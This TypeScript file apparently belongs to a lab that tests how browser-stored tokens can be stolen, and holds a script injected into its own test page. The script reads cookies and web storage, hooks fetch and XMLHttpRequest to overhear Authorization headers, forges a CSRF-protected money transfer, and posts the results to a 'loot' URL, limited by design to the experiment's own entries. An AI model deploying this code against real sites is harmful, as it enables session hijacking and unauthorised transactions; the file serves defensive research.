/// <reference lib="dom" />
import type { Aim } from './attacks.ts'

export interface Injection {
  aim: Aim
  /** The experiment's id: an attacker would take everything, the lab's script only what is this experiment's. */
  experiment: string
  base: string
  transfer: { to: string; amount: string }
  loot: string
}

/**
 * The script that was injected into the lab's own page: it runs there as an attacker's would, against an experiment that was
 * made for it. It works once the page makes its next request, and sends home what it could take.
 * @returns what puts the page's functions back, which no attacker would offer
 */
export function inject({ aim, experiment, base, transfer, loot }: Injection): () => void {
  const ownFetch = window.fetch
  const setHeader = XMLHttpRequest.prototype.setRequestHeader

  const sendHome = (got: string) =>
    void ownFetch(loot, { method: 'POST', mode: 'no-cors', credentials: 'omit', body: got })

  const ofExperiment = (entries: [string, unknown][]) =>
    entries.filter(([name]) => name.includes(experiment)).map(([name, value]) => `${name}=${value}`)

  /** The first token in some texts, as `Bearer …`. */
  function bearerIn(texts: string[]): string | undefined {
    const [, token] = /"accessToken":"([^"]+)"/.exec(texts.join()) ?? []
    return token && `Bearer ${token}`
  }

  async function act(authorization?: string): Promise<void> {
    const asked = await ownFetch(`${base}/csrf`, { credentials: 'include' })
    const csrf = /"csrfToken":"([^"]+)"/.exec(await asked.text())?.[1]
    const answer = await ownFetch(`${base}/transfers`, {
      method: 'POST',
      credentials: 'include',
      body: new URLSearchParams({ ...transfer }),
      headers: {
        ...(authorization && { Authorization: authorization }),
        ...(csrf && { 'X-XSRF-TOKEN': csrf }),
      },
    })
    sendHome(await answer.text())
  }

  /** Calls once, with the Authorization header of the page's next request if it has one. */
  function overhear(heard: (authorization?: string) => void): () => void {
    function restore() {
      window.fetch = ownFetch
      XMLHttpRequest.prototype.setRequestHeader = setHeader
      XMLHttpRequest.prototype.send = send
    }
    function once(authorization?: string) {
      restore()
      heard(authorization)
    }
    const send = XMLHttpRequest.prototype.send
    const seen = new WeakMap<XMLHttpRequest, string>()
    XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
      if (name.toLowerCase() === 'authorization') seen.set(this, value)
      setHeader.call(this, name, value)
    }
    XMLHttpRequest.prototype.send = function (body) {
      once(seen.get(this))
      send.call(this, body)
    }
    window.fetch = (input, init) => {
      once(new Request(input, init).headers.get('Authorization') ?? undefined)
      return ownFetch(input, init)
    }
    return restore
  }

  switch (aim) {
    case 'cookie':
      sendHome(
        ofExperiment(
          document.cookie
            .split('; ')
            .map((pair) => [pair.split('=')[0] ?? '', pair.slice(pair.indexOf('=') + 1)]),
        ).join('; '),
      )
      break
    case 'session-storage':
      sendHome(ofExperiment(Object.entries(sessionStorage)).join('; '))
      break
    case 'local-storage':
      sendHome(ofExperiment(Object.entries(localStorage)).join('; '))
      break
    case 'listen':
      return overhear((authorization) => sendHome(authorization ?? 'no Authorization header'))
    case 'act': {
      const kept = ofExperiment([...Object.entries(sessionStorage), ...Object.entries(localStorage)])
      return overhear((authorization) =>
        act(bearerIn(kept) ?? authorization).catch((error: unknown) => sendHome(String(error))),
      )
    }
  }
  return () => undefined
}
